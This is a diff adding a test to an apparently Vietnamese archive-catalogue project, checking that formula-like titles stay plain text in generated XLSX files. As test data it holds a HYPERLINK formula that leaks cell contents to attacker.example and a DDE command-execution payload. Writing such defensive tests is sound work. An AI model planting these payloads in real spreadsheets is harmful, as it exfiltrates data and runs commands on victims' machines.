@@ -100,3 +100,27 @@ def test_workflow_and_report_run_on_a_postgresql_catalog(archive_home, postgres_
     report = build_report(ORGAN, today=TODAY)
     assert (report.summary["holdings"], report.summary["transfer_due"], report.summary["destroyed"]) == (1, 1, 1)
     assert report.summary["audit_chain"] == "nguyên vẹn"
+
+
+FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")'
+
+
+def test_a_title_that_looks_like_a_formula_stays_text_in_every_xlsx(archive_home, tmp_path):
+    from datetime import datetime
+
+    from archive.lifecycle.transfer.documents import transfer_list_xlsx
+    from archive.lifecycle.transfer.manifest import PackageEntry, TransferManifest
+    init_catalog()
+    code = catalogue("07.VP", "5 năm", date(2015, 7, 1), title=FORMULA_TITLE)
+    report = write_xlsx(build_report(ORGAN, today=TODAY), tmp_path / "report.xlsx")
+    manifest = TransferManifest(reference="NL-1", created=datetime(2026, 12, 1), organ_id=ORGAN,
+                                agency_name="=1+1", prepared_by="=cmd|' /C calc'!A0", packages=[PackageEntry(
+                                    package_id="urn:uuid:1", folder="packages/1", mets_sha256="0" * 64, size=1,
+                                    files=1, dossier_code=code, title=FORMULA_TITLE, maintenance="5 năm",
+                                    documents=1)])
+    listing = transfer_list_xlsx(manifest, tmp_path)
+    for path in (report, listing):
+        cells = [c for sheet in load_workbook(path) for row in sheet.iter_rows() for c in row
+                 if isinstance(c.value, str) and c.value.startswith("=")]
+        assert FORMULA_TITLE in {c.value for c in cells}, path
+        assert {c.data_type for c in cells} == {"s"}, path      # text, never a formula
